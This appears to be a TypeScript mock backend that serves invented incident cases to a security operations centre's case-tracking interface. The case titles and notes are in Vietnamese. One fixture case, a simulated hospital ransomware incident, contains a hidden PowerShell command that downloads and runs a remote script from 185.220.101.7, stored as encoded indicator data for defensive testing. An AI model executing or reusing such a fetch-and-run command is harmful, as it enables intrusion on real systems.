/// The invented centre's cases: a few in every state, one with everything in it.
import { gzipSync } from 'node:zlib';
import type { AlertRow, Verdict } from '../src/lib/api';
import type { Case, CaseDetail, CaseMoment, CaseNote, CaseObservable, CaseTask, ObservableKind } from '../src/lib/cases';
import { problem, type Answer, type Ask } from './centre.ts';
import { makeEvent } from './events.ts';
import { SESSION } from './world.ts';

const HOUR = 3_600_000;
const NONE = { cases: [], cases_count: 0, alerts: [], alerts_count: 0 };

export class Cases {
  readonly all: CaseDetail[];
  private readonly actions = new Map<string, CaseMoment[]>();
  private next = 100;
  private wasFaster = 0;

  constructor(
    readonly now: number,
    readonly alerts: readonly AlertRow[],
  ) {
    const make = (n: number, title: string, rest: Partial<CaseDetail>) => this.make(n, title, rest);
    this.all = [
      make(7, 'Tên miền lạ được nhiều máy hỏi cùng lúc', { level: 'medium', alerts: alerts.slice(4, 6) }),
      make(6, 'Đăng nhập trái giờ vào máy chủ một cửa', { level: 'high', assignee: 'an.nguyen', sites: ['so-tttt'] }),
      make(3, 'Nghi mã độc tống tiền tại bệnh viện', this.whole()),
      make(4, 'Chèn liên kết cờ bạc trên trang của phường', { level: 'high', state: 'in_work', assignee: SESSION.user, sites: ['phuong-hai-dong'] }),
      make(5, 'Dò mật khẩu SSH từ một địa chỉ', { state: 'closed', verdict: 'true_positive', lessons: 'Tắt đăng nhập bằng mật khẩu trên máy chủ công khai; đã ghi vào danh mục cấu hình chuẩn.', alerts: alerts.slice(7, 9) }),
      make(2, 'Máy in gửi nhiều gói lạ', { level: 'low', state: 'closed', verdict: 'benign', assignee: 'an.nguyen' }),
    ];
  }

  private at(hours: number): string {
    return new Date(this.now - hours * HOUR).toISOString();
  }

  private make(n: number, title: string, rest: Partial<CaseDetail>): CaseDetail {
    const held = {
      id: `V-2026-${String(n).padStart(4, '0')}`,
      title,
      summary: '',
      level: 'medium' as const,
      state: 'new' as const,
      verdict: null,
      lessons: '',
      assignee: null,
      sites: ['xa-binh-minh'],
      exercise: true,
      opened: this.at(n * 5),
      opened_by: 'an.nguyen',
      updated: this.at(n / 2),
      version: 1,
      incident: null,
      alerts: [],
      notes: [],
      tasks: [],
      observables: [],
      evidence: [],
      ...rest,
    };
    this.actions.set(held.id, [this.did('an.nguyen', 'opened', { title }, n * 5)]);
    return this.counted({ ...held, counts: { alerts: 0, notes: 0, tasks: 0, done: 0, observables: 0, evidence: 0, events: 0, outside_sites: n === 3 ? 1 : 0, outside: n === 3 ? 2 : 0 } });
  }

  private counted(held: CaseDetail): CaseDetail {
    const { alerts, notes, tasks, observables, evidence } = held;
    Object.assign(held.counts, { alerts: alerts.length, notes: notes.length, tasks: tasks.length, done: tasks.filter(({ done }) => done !== null).length, observables: observables.length, evidence: evidence.length });
    return held;
  }

  private did(who: string, action: CaseMoment['action'], detail: Record<string, unknown>, hours = 0): CaseMoment {
    return { kind: 'action', at: this.at(hours), who, action, detail, event: null, reason: null, alert: null, note: null };
  }

  private value(id: number, kind: ObservableKind, value: string, tags: string[], seen: Partial<CaseObservable['seen_in']> = {}): CaseObservable {
    return { id, kind, value, note: '', tags, at: this.at(10), who: 'an.nguyen', version: 1, seen_in: { ...NONE, ...seen } };
  }

  /** What a case that is well under way holds. */
  private whole(): Partial<CaseDetail> {
    const note = (id: number, text: string, hours: number, version = 1): CaseNote => ({ id, version, text, first: this.at(hours), author: 'an.nguyen', at: this.at(hours - 0.4), who: version > 1 ? SESSION.user : 'an.nguyen' });
    const task = (id: number, text: string, rest: Partial<CaseTask> = {}): CaseTask => ({ id, place: id, text, assignee: null, due: null, done: null, done_by: null, version: 1, ...rest });
    const command = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.7/a.ps1')", 'utf16le').toString('base64');
    return {
      level: 'critical',
      state: 'in_work',
      assignee: SESSION.user,
      sites: ['bv-da-khoa'],
      incident: 'in-03',
      summary: 'Máy PC-KETOAN-02 của bệnh viện chạy lệnh PowerShell mã hóa rồi kết nối tới một địa chỉ lạ. Sau đó nhiều tệp trên thư mục dùng chung đổi đuôi.\n\nĐã ngắt mạng máy này lúc 9 giờ 40. Chưa thấy máy khác có cùng dấu hiệu.',
      alerts: this.alerts.slice(0, 3),
      notes: [note(3, 'Bệnh viện xác nhận: nhân viên mở tệp đính kèm trong thư giả mạo bảo hiểm.', 3, 2), note(2, 'Đã gọi phòng công nghệ thông tin bệnh viện, đề nghị giữ nguyên máy, không khởi động lại.', 6)],
      tasks: [
        task(1, 'Ngắt mạng máy PC-KETOAN-02', { done: this.at(5), done_by: SESSION.user, assignee: SESSION.user }),
        task(2, 'Lấy bản ghi bộ nhớ của máy', { done: this.at(4), done_by: 'an.nguyen' }),
        task(3, 'Chặn 185.220.101.7 ở tường lửa của mọi điểm', { due: this.at(-8), assignee: 'an.nguyen' }),
        task(4, 'Hỏi bản sao lưu gần nhất của thư mục dùng chung', { due: this.at(1) }),
      ],
      observables: [
        this.value(1, 'ip', '185.220.101.7', ['máy chủ điều khiển'], { cases: [{ id: 'V-2026-0005', title: 'Dò mật khẩu SSH từ một địa chỉ' }], cases_count: 1, alerts_count: 14 }),
        this.value(2, 'domain', 'bao-hiem-xa-hoi.example', ['thư giả mạo']),
        this.value(3, 'hash', '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', []),
        this.value(4, 'process', `powershell.exe -NoP -W Hidden -EncodedCommand ${command}`, []),
        this.value(5, 'other', gzipSync('config: beacon=60;jitter=20').toString('base64'), ['lấy từ bộ nhớ']),
      ],
      evidence: [
        { id: 2, name: 'PC-KETOAN-02.mem.zst', bytes: 187_400_233, sha256: 'b1946ac92492d2347c6235b4d2611184b1946ac92492d2347c6235b4d2611184', note: 'Bộ nhớ của máy, lấy trước khi tắt', site: 'bv-da-khoa', at: this.at(4), who: 'an.nguyen', custody: [{ at: this.at(4), who: 'an.nguyen', action: 'received' }, { at: this.at(2), who: SESSION.user, action: 'read' }] },
        { id: 1, name: 'thu-gia-mao.eml', bytes: 48_211, sha256: '2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae', note: '', site: null, at: this.at(7), who: 'an.nguyen', custody: [{ at: this.at(7), who: 'an.nguyen', action: 'received' }] },
      ],
    };
  }

  handle(ask: Ask): Answer {
    const [, , id, part, item] = ask.path.split('/').map(decodeURIComponent);
    if (id === undefined) return ask.method === 'POST' ? this.open(ask) : this.list(ask);
    const held = this.all.find((each) => each.id === id);
    if (!held) return problem(404, 'not_found', 'there is no such case');
    if (part === 'timeline') return { status: 200, body: { items: this.timeline(held), next: null } };
    if (ask.method === 'GET') return { status: 200, body: this.counted(held) };
    return this.write(held, ask, part, Number(item ?? 0));
  }

  private list({ query, scenario }: Ask): Answer {
    const has = (name: string, value: string) => (query.get(name) ?? '') === '' || (query.get(name) ?? '').split(',').includes(value);
    const whose = query.get('assignee');
    const wanted = (query.get('text') ?? '').toLowerCase();
    const alert = query.get('alert');
    const found = (scenario === 'empty' ? [] : this.all).filter(
      (each) =>
        has('level', each.level) &&
        (whose === null || (whose === 'none' ? each.assignee === null : each.assignee === (whose === 'me' ? SESSION.user : whose))) &&
        `${each.id} ${each.title} ${each.summary}`.toLowerCase().includes(wanted) &&
        (alert === null || each.alerts.some((own) => own.id === alert)),
    );
    const items = found.filter((each) => has('state', each.state)).map(rowOf).sort((a, b) => b.updated.localeCompare(a.updated));
    const count = (state: Case['state']) => found.filter((each) => each.state === state).length;
    return { status: 200, body: { items, next: null, counts: { new: count('new'), in_work: count('in_work'), closed: count('closed') } } };
  }

  private timeline(held: CaseDetail): CaseMoment[] {
    const none = { event: null, reason: null, alert: null, note: null, action: null, detail: null };
    const event = makeEvent(7, 'windows.sysmon', this.now - 7 * HOUR, held.sites[0] ?? 'so-tttt');
    return [
      ...(held.id.endsWith('3') ? [{ ...none, kind: 'event' as const, at: event.time, who: 'an.nguyen', event, reason: 'Lệnh đầu tiên thấy được' }] : []),
      ...held.alerts.map((alert) => ({ ...none, kind: 'alert' as const, at: alert.first, who: '', alert })),
      ...held.notes.map((note) => ({ ...none, kind: 'note' as const, at: note.first, who: note.author, note })),
      ...(this.actions.get(held.id) ?? []),
    ].sort((a, b) => b.at.localeCompare(a.at));
  }

  private open({ body }: Ask): Answer {
    this.next += 1;
    const ids = (body.alerts ?? []) as string[];
    const alerts = this.alerts.filter(({ id }) => ids.includes(id));
    const made = this.make(this.next, String(body.title), { assignee: (body.assignee ?? null) as string | null, alerts, opened: this.at(0), updated: this.at(0), opened_by: SESSION.user });
    this.all.unshift(made);
    return { status: 201, body: rowOf(made) };
  }

  private write(held: CaseDetail, { method, body, scenario }: Ask, part: string | undefined, item: number): Answer {
    if (held.state === 'closed' && part !== 'reopen') return problem(422, 'case_closed', 'the case is closed');
    const isHead = part === undefined || part === 'close' || part === 'reopen';
    // Somebody is always faster, and then leaves a moment.
    if (scenario === 'conflict' && isHead && Date.now() - this.wasFaster > 3_000) {
      this.wasFaster = Date.now();
      Object.assign(held, { version: held.version + 1, summary: 'Bệnh viện đã khôi phục thư mục từ bản sao đêm qua.', assignee: 'an.nguyen' });
    }
    if (isHead && body.version !== held.version) return problem(409, 'version_conflict', 'somebody changed this case in between');
    if (isHead) held.version += 1;
    if (part === undefined) {
      const { version: _version, ...change } = body;
      Object.assign(held, change);
    } else if (part === 'close') Object.assign(held, { state: 'closed', verdict: body.verdict as Verdict, lessons: body.lessons });
    else if (part === 'reopen') Object.assign(held, { state: 'in_work', verdict: null });
    else if (part === 'incident') return { status: 201, body: { id: 'in-03' } };
    else return this.writePart(held, method, body, part, item, scenario);
    held.updated = this.at(0);
    return { status: 200, body: rowOf(held) };
  }

  private writePart(held: CaseDetail, method: string, body: Record<string, unknown>, part: string, item: number, scenario: string): Answer {
    this.next += 1;
    const id = this.next;
    if (part === 'notes' && method === 'PATCH') {
      const note = held.notes.find((each) => each.id === item);
      if (!note) return problem(404, 'not_found', 'no such note');
      if (scenario === 'conflict' && note.version < 40) Object.assign(note, { version: 40, text: 'Người khác đã viết lại.' });
      if (note.version !== body.version) return problem(409, 'version_conflict', 'somebody changed this note in between');
      Object.assign(note, { version: note.version + 1, text: body.text, at: this.at(0), who: SESSION.user });
      return { status: 200, body: note };
    }
    if (part === 'notes') {
      const note: CaseNote = { id, version: 1, text: String(body.text), first: this.at(0), author: SESSION.user, at: this.at(0), who: SESSION.user };
      held.notes.unshift(note);
      return { status: 201, body: note };
    }
    if (part === 'tasks' && method === 'POST') held.tasks.push({ id, place: id, text: String(body.text), assignee: null, due: null, done: null, done_by: null, version: 1 });
    else if (part === 'tasks' && method === 'DELETE') held.tasks = held.tasks.filter((each) => each.id !== item);
    else if (part === 'tasks') {
      const isDone = body.done === true;
      held.tasks = held.tasks.map((each) => (each.id === item ? { ...each, version: each.version + 1, done: isDone ? this.at(0) : null, done_by: isDone ? SESSION.user : null } : each));
    } else if (part === 'observables' && method === 'POST') held.observables.push(this.value(id, body.kind as ObservableKind, String(body.value), (body.tags ?? []) as string[]));
    else if (part === 'observables') held.observables = held.observables.filter((each) => each.id !== item);
    else if (part === 'alerts' && method === 'POST') held.alerts.push(...this.alerts.filter((each) => (body.ids as string[]).includes(each.id)));
    this.actions.get(held.id)?.push(this.did(SESSION.user, 'changed', {}));
    return { status: method === 'POST' ? 201 : 200, body: part === 'alerts' ? rowOf(held) : {} };
  }
}

function rowOf({ alerts: _a, notes: _n, tasks: _t, observables: _o, evidence: _e, ...row }: CaseDetail): Case {
  return row;
}
